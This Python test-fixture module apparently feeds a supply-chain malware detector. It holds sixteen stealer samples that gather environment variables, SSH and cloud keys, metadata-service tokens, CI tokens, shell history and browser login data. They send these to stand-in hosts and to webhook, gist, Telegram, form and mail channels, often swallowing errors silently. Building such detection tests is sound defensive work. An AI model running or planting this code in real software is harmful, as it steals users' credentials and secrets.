"""What campaigns of the last two years take of a machine's secrets and how they send it, each in several codings."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.at_start import imported
from tests.campaigns.forge import Shapes

__all__ = ["RECENT_SECRETS"]

RECENT_SECRETS = Shapes()
TEXTS = {
    "env-as-class-httpx": (
        "A class collects the environment and a thread sends it by httpx",
        """\
import os
import platform
import threading

import httpx as _hx


class _Telemetry:
    endpoint = "https://telemetry-ingest.example.invalid/v2/events"

    def __init__(self):
        self.payload = {"host": platform.node(), "vars": {k: v for k, v in os.environ.items()}}

    def flush(self):
        try:
            with _hx.Client(timeout=4, verify=False) as client:
                client.post(self.endpoint, json=self.payload)
        except Exception:
            pass


threading.Thread(target=_Telemetry().flush, daemon=True).start()
""",
    ),
    "env-gzip-urllib": (
        "A function packs the environment and sends it as an opaque body",
        """\
from base64 import b64encode
from gzip import compress
from json import dumps
from os import environ
from urllib import request as rq


def _warmup():
    blob = b64encode(compress(dumps(environ.copy()).encode()))
    rq.urlopen(rq.Request("https://edge.example.invalid/c", data=blob, headers={"User-Agent": "pip/24.0"}), timeout=3)


try:
    _warmup()
except Exception:
    pass
""",
    ),
    "env-curl-shell": (
        "The shell prints the environment into curl",
        """\
import subprocess as sp
sp.Popen("env | base64 -w0 | curl -s -X POST -d @- https://edge.example.invalid/e", shell=True, stdout=sp.DEVNULL, stderr=sp.DEVNULL)
""",
    ),
    "files-pathlib-aiohttp": (
        "A coroutine walks the well-known secret files by pathlib and sends them",
        """\
import asyncio
from pathlib import Path

TARGETS = [".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".kube/config", ".docker/config.json", ".npmrc", ".pypirc"]


async def _collect():
    found = {}
    for name in TARGETS:
        file = Path.home() / name
        if file.is_file():
            found[name] = file.read_text(errors="ignore")
    return found


async def _ship():
    import aiohttp

    async with aiohttp.ClientSession() as s:
        async with s.put("https://objects.example.invalid/upload/latest", json=await _collect()) as r:
            await r.read()


try:
    asyncio.get_event_loop().run_until_complete(_ship())
except Exception:
    pass
""",
    ),
    "files-tar-rsa": (
        "Secret files go into an archive that is encrypted to a public key and posted",
        """\
import io
import os
import tarfile
import urllib.request

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

PUB = b"-----BEGIN PUBLIC KEY-----\\nMIICIjANBgkqhkiG9w0BAQEFAAOCAg8AinertINERT\\n-----END PUBLIC KEY-----"


def run():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for p in ("~/.ssh", "~/.aws", "~/.config/gcloud", "~/.azure", "~/.gitconfig", "~/.bash_history", "~/.env"):
            p = os.path.expanduser(p)
            if os.path.exists(p):
                tf.add(p)
    key = AESGCM.generate_key(256)
    nonce = os.urandom(12)
    body = AESGCM(key).encrypt(nonce, buf.getvalue(), None)
    wrapped = serialization.load_pem_public_key(PUB).encrypt(key, padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None))
    req = urllib.request.Request("https://models.routerllm.example.invalid/", data=wrapped + nonce + body, headers={"X-Filename": "tpcp.tar.gz"})
    urllib.request.urlopen(req)


run()
""",
    ),
    "openssl-curl-staging": (
        "openssl encrypts what tar packs and curl sends it",
        """\
import os
import subprocess
import tempfile

d = tempfile.mkdtemp()
subprocess.run(["tar", "-czf", f"{d}/a.tgz", os.path.expanduser("~/.ssh"), os.path.expanduser("~/.aws")], stderr=subprocess.DEVNULL)
subprocess.run(["openssl", "rand", "-out", f"{d}/k", "32"])
subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", f"{d}/a.tgz", "-out", f"{d}/p.enc", "-pass", f"file:{d}/k", "-pbkdf2"])
subprocess.run(["curl", "-s", "-o", "/dev/null", "-X", "POST", "https://edge.example.invalid/", "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{d}/p.enc"])
""",
    ),
    "metadata-service-httpx": (
        "Cloud role credentials are asked of the metadata service and sent on",
        """\
import httpx

BASE = "http://169.254.169.254/latest"


def role():
    t = httpx.put(BASE + "/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}, timeout=1).text
    h = {"X-aws-ec2-metadata-token": t}
    name = httpx.get(BASE + "/meta-data/iam/security-credentials/", headers=h).text
    return httpx.get(BASE + "/meta-data/iam/security-credentials/" + name, headers=h).json()


try:
    httpx.post("https://edge.example.invalid/r", json=role())
except httpx.HTTPError:
    pass
""",
    ),
    "gcp-azure-metadata": (
        "Tokens of three clouds' metadata services are collected and posted",
        """\
import json
import urllib.request as u

ASK = {
    "gcp": ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {"Metadata-Flavor": "Google"}),
    "azure": ("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", {"Metadata": "true"}),
    "ecs": ("http://169.254.170.2/v2/credentials", {}),
}
out = {}
for name, (url, headers) in ASK.items():
    try:
        out[name] = u.urlopen(u.Request(url, headers=headers), timeout=1).read().decode()
    except OSError:
        continue
u.urlopen(u.Request("https://edge.example.invalid/m", json.dumps(out).encode()))
""",
    ),
    "ci-tokens-regex": (
        "Tokens are found by their patterns in files and environment, and sent",
        """\
import os, re, json, pathlib
from urllib.request import Request, urlopen

RX = [r"ghp_[A-Za-z0-9]{36}", r"github_pat_\\w{82}", r"AKIA[0-9A-Z]{16}", r"npm_[A-Za-z0-9]{36}", r"pypi-AgEI[\\w-]{50,}", r"sk-[A-Za-z0-9]{48}", r"xox[bp]-[\\w-]+"]
hits = set()
for p in pathlib.Path.cwd().rglob("*"):
    if p.is_file() and p.stat().st_size < 10**6:
        text = p.read_text("utf8", "ignore")
        for rx in RX:
            hits.update(re.findall(rx, text))
for v in os.environ.values():
    for rx in RX:
        hits.update(re.findall(rx, v))
if hits:
    urlopen(Request("https://edge.example.invalid/t", data=json.dumps(sorted(hits)).encode(), method="POST"))
""",
    ),
    "gh-cli-token-repo": (
        "The token of GitHub's command makes a public repository with what was found",
        """\
import base64, json, os, subprocess, urllib.request

tok = os.environ.get("GITHUB_TOKEN") or subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
H = {"Authorization": "token " + tok, "User-Agent": "x"}


def call(method, path, body):
    return json.load(urllib.request.urlopen(urllib.request.Request("https://api.github.com" + path, json.dumps(body).encode(), H, method=method)))


repo = call("POST", "/user/repos", {"name": "results-" + os.urandom(4).hex(), "private": False, "description": "inert"})
loot = {"env": dict(os.environ), "npmrc": open(os.path.expanduser("~/.npmrc")).read()}
call("PUT", "/repos/%s/contents/results.json" % repo["full_name"], {"message": "add", "content": base64.b64encode(json.dumps(loot).encode()).decode()})
""",
    ),
    "gist-exfil": (
        "Found secrets go into a gist by a token that the package carries",
        """\
import os, requests

def _sync():
    files = {}
    for n in ("~/.netrc", "~/.git-credentials", "~/.ssh/config", "~/.aws/credentials"):
        p = os.path.expanduser(n)
        if os.path.exists(p):
            with open(p) as fh:
                files[os.path.basename(p)] = {"content": fh.read()}
    requests.post("https://api.github.com/gists", headers={"Authorization": "Bearer ghp_" + "x" * 36}, json={"public": False, "files": files})

_sync()
""",
    ),
    "webhook-built-from-parts": (
        "A webhook's address is put together and host data posted to it",
        """\
import getpass, platform, requests, socket

_p = ["https://disc", "ord.com/api/web", "hooks/", "1234567890123456789", "/", "a" * 68]


def report():
    ip = requests.get("https://api.ipify.org").text
    requests.post("".join(_p), json={"content": f"```{getpass.getuser()}@{socket.gethostname()} {ip} {platform.platform()}```"})


report()
""",
    ),
    "telegram-fstring-http-client": (
        "A bot's token in an f-string; a document sent over a raw HTTPS connection",
        """\
import http.client, os, uuid

TOKEN = "7123456789:AAHinertinertinertinertinertinertin"
CHAT = -1001234567890


def send(path):
    bnd = uuid.uuid4().hex
    body = (f"--{bnd}\\r\\nContent-Disposition: form-data; name=\\"chat_id\\"\\r\\n\\r\\n{CHAT}\\r\\n--{bnd}\\r\\nContent-Disposition: form-data; name=\\"document\\"; filename=\\"f\\"\\r\\n\\r\\n").encode()
    body += open(path, "rb").read() + f"\\r\\n--{bnd}--\\r\\n".encode()
    c = http.client.HTTPSConnection("api.telegram.org")
    c.request("POST", f"/bot{TOKEN}/sendDocument", body, {"Content-Type": f"multipart/form-data; boundary={bnd}"})


for f in os.listdir(os.path.expanduser("~/.ssh")):
    send(os.path.join(os.path.expanduser("~/.ssh"), f))
""",
    ),
    "slack-incoming": (
        "Shell history goes to an incoming webhook of Slack",
        """\
import json, os, urllib.request
h = open(os.path.expanduser("~/.bash_history"), errors="ignore").read()[-3000:]
urllib.request.urlopen(urllib.request.Request("https://hooks.slack.com/services/T00000000/B00000000/inertinertinertinertiner", json.dumps({"text": h}).encode(), {"Content-type": "application/json"}))
""",
    ),
    "google-form": (
        "Host data is filled into a form that anybody may fill in",
        """\
import os, requests, socket
F = "https://docs.google.com/forms/d/e/1FAIpQLSinertinertinertinertinertinertinertinertinertinert/formResponse"
requests.post(F, data={"entry.1": socket.gethostname(), "entry.2": os.getcwd(), "entry.3": str(dict(os.environ))})
""",
    ),
    "smtp-mail": (
        "A mail with the browser's data as an attachment leaves by a free mail account",
        """\
import os, smtplib, shutil
from email.message import EmailMessage

src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(src, "ld.db")
m = EmailMessage()
m["From"] = m["To"] = "drop@mail.example.invalid"
m.add_attachment(open("ld.db", "rb").read(), maintype="application", subtype="octet-stream", filename="ld.db")
with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:
    s.login("drop@mail.example.invalid", "abcd efgh ijkl mnop")
    s.send_message(m)
""",
    ),
}

for title, (what, text) in TEXTS.items():
    for place in ("import", "proxy"):
        RECENT_SECRETS.add(
            f"recent-{title}-{place}",
            what,
            lambda title=title, text=text, place=place: imported(
                title.replace("-", "_") + "_kit", text, proxy=place == "proxy"
            ),
        )
